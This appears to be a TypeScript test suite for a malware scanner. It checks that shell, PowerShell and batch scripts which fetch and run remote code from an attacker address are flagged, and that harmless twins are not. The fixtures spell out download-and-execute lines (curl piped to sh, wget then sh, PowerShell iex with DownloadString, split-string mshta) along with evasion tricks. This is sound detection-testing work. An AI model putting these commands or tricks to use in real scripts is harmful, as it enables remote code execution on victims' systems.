/** Scripts for shells: each value that a variable may have counts, wherever it is given and however many there are. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()

const isInfected = (source: string, name: string): boolean =>
  inspect(Buffer.from(source), { name }).findings.some(({ severity }) => severity === 'malicious')
const times = (count: number, text: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => text(i)).join('')

const FETCH = (url: string): string => `(New-Object Net.WebClient).DownloadString(${url})`
const STEPS = times(30, (i) => `Write-Output ${i}\n`)
/** A threat in which `URL` is the address of an attacker, and harmless with that of a server with a name. */
const CASES: readonly (readonly [name: string, title: string, source: string])[] = [
  ['a.sh', 'a variable', '#!/bin/sh\nu=URL\ncurl -s $u | sh\n'],
  ['a.sh', 'a branch', '#!/bin/sh\nu=URL\nif [ "$1" = x ]; then u=https://a.example/a.sh; fi\ncurl -s $u | sh\n'],
  [
    'a.sh',
    'a branch that sets it',
    '#!/bin/sh\nu=https://a.example/a.sh\nif [ "$1" ]; then\n  u=URL\nfi\ncurl -s "$u" | sh\n',
  ],
  ['a.sh', 'an and', '#!/bin/sh\nu=URL\n[ -n "$X" ] && u=https://a.example/a.sh\nwget -O /tmp/a $u\nsh /tmp/a\n'],
  [
    'a.sh',
    'very many values',
    `#!/bin/sh\nu=URL\n${times(50, (i) => `[ $X = ${i} ] && u=https://a.example/${i}.sh\n`)}curl -s $u | sh\n`,
  ],
  [
    'a.ps1',
    'very many values',
    `${times(20, (i) => `if ($x -eq ${i}) { $u = 'https://a.example/${i}' }\n`)}if ($y) { $u = 'URL' }\n${STEPS}iex ${FETCH('$u')}\n`,
  ],
  ['a.ps1', 'a long text before it', `$u = 'URL'\n$a = "${'x'.repeat(21_000)}" + ${FETCH('$u')}\n${STEPS}iex $a\n`],
  [
    'a.ps1',
    'functions in any order',
    `function A { B }\nfunction B { C }\nfunction C { D }\nfunction D { E }\nfunction E { F }\nfunction F { ${FETCH("'URL'")} }\n${STEPS}iex (A)\n`,
  ],
]

for (const [name, title, source] of CASES)
  suite(`${name} with ${title}`, () => {
    test('is infected', () => assert.ok(isInfected(source.replaceAll('URL', 'http://192.0.2.1/a'), name)))
    test('has a harmless twin', () => assert.ok(!isInfected(source.replaceAll('URL', 'https://b.example/a'), name)))
  })

suite('a.bat with a part that is called', () => {
  const script = (program: string): string =>
    `@echo off\r\nset s=notepad\r\ncall :f\r\n%s% http://192.0.2.1/a.hta\r\nexit /b\r\n:f\r\nset s=${program.slice(0, 3)}\r\nset s=%s%${program.slice(3)}\r\nexit /b\r\n`
  test('is infected', () => assert.ok(isInfected(script('mshta'), 'a.bat')))
  test('has a harmless twin', () => assert.ok(!isInfected(script('notepad'), 'a.bat')))
})
